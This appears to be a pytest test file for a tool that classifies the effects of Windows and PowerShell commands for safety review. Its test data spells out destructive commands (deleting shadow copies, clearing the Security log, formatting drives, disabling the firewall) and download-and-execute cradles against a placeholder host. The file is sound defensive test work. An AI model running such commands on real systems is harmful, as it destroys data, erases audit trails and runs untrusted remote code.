import pytest
from system_calls import line_of

from sentinel.live.effects import Kind
from sentinel.live.reading.calls import Call, Inner, Word
from sentinel.live.reading.powershell import PROGRAMS as SHELLS
from sentinel.live.reading.powershell import call_powershell, read_powershell
from sentinel.live.reading.windows import PROGRAMS


def told(program, *words):
    call = Call(program, tuple(Word(each, fixed="%" not in each) for each in words))
    found = PROGRAMS[program](call)
    return " + ".join([line_of(each) for each in found.effects] + ["unread"] * len(found.opaque))


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        ("reg query HKLM\\Software", "reads configuration HKLM\\Software one"),
        ("reg delete HKLM\\Software /f", "deletes configuration HKLM\\Software one"),
        ("vssadmin delete shadows /all /quiet", "deletes backup shadows namespace"),
        ("wevtutil cl Security", "deletes audit Security namespace"),
        ("bcdedit /set recoveryenabled no", "weakens configuration recoveryenabled account"),
        ("sc delete Spooler", "deletes unit Spooler one"),
        ("sc explode x", "unread"),
        ("netsh advfirewall set allprofiles state off", "weakens firewall off account"),
        ("netsh interface show interface", "reads network interface one"),
        ("netsh advfirewall set %X% state off", "unread"),
        ("del /s /q C:\\data", "deletes file C:\\data namespace"),
        ("rd /s /q C:\\", "deletes folder C:\\ namespace"),
        ("format C:", "deletes device C: account"),
        ("format /?", "reads unknown - none"),
        ("taskkill /f /im sqlservr.exe", "stops process sqlservr.exe one"),
        ("schtasks /query", "reads schedule - one"),
    ],
)
def test_a_program_of_windows_is_read(words, expected):
    program, *rest = words.split()
    assert told(program, *rest) == expected


@pytest.mark.parametrize("programs", [PROGRAMS, SHELLS])
def test_no_program_is_silent_without_arguments(programs):
    for program, read in programs.items():
        found = read(Call(program, ()))
        assert found.effects or found.opaque, program


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("Get-Service | Where Status -eq Running", "reads data *"),
        ("Get-Process", "reads data "),
        ("Remove-Item -Recurse -Force C:\\data", "deletes folder c:\\data"),
        ("Remove-Item -WhatIf C:\\data", "reads unknown "),
        ("Stop-Service -Name Spooler", "stops unit spooler"),
        ("Get-VM | Remove-VM", "reads data * + deletes instance *"),
        ("Set-ExecutionPolicy Bypass", "weakens configuration bypass"),
        ("Format-Volume -DriveLetter C", "deletes device c"),
    ],
)
def test_a_cmdlet_is_read_by_its_verb(script, expected):
    found = read_powershell(Inner("powershell", script))
    assert " + ".join(f"{e.kind} {e.thing} {e.name}" for e in found.effects) == expected
    assert not found.opaque


@pytest.mark.parametrize(
    "script", ["iex (iwr http://x.example/a)", "irm http://x.example/a | iex",
               "IEX (New-Object Net.WebClient).DownloadString('http://x.example')"],
)  # fmt: skip
def test_code_from_the_network_is_executed(script):
    effects = read_powershell(Inner("powershell", script)).effects
    assert [each.kind for each in effects] == [Kind.EXECUTES]


@pytest.mark.parametrize(
    "script",
    ["& $x", "1..3 | % { Remove-Item $_ }", "Frob-Nicate x", "", "Remo`ve-Item x", "Get-X;$a"],
)
def test_what_is_not_plain_is_unread(script):
    assert read_powershell(Inner("powershell", script)).opaque


def test_an_encoded_command_is_decoded():
    code = "UgBlAG0AbwB2AGUALQBJAHQAZQBtACAAeAA="
    found = call_powershell(Call("powershell", (Word("-NoP"), Word("-enc"), Word(code))))
    assert found.inner[0].text == "Remove-Item x"
    assert "decoded" in found.inner[0].marks
    assert call_powershell(Call("pwsh", (Word("-e"), Word("!")))).opaque


def test_a_command_is_the_rest_of_the_line():
    found = call_powershell(Call("powershell", (Word("-Command"), Word("Stop-Service x"))))
    assert (found.inner[0].language, found.inner[0].text) == ("powershell", "Stop-Service x")
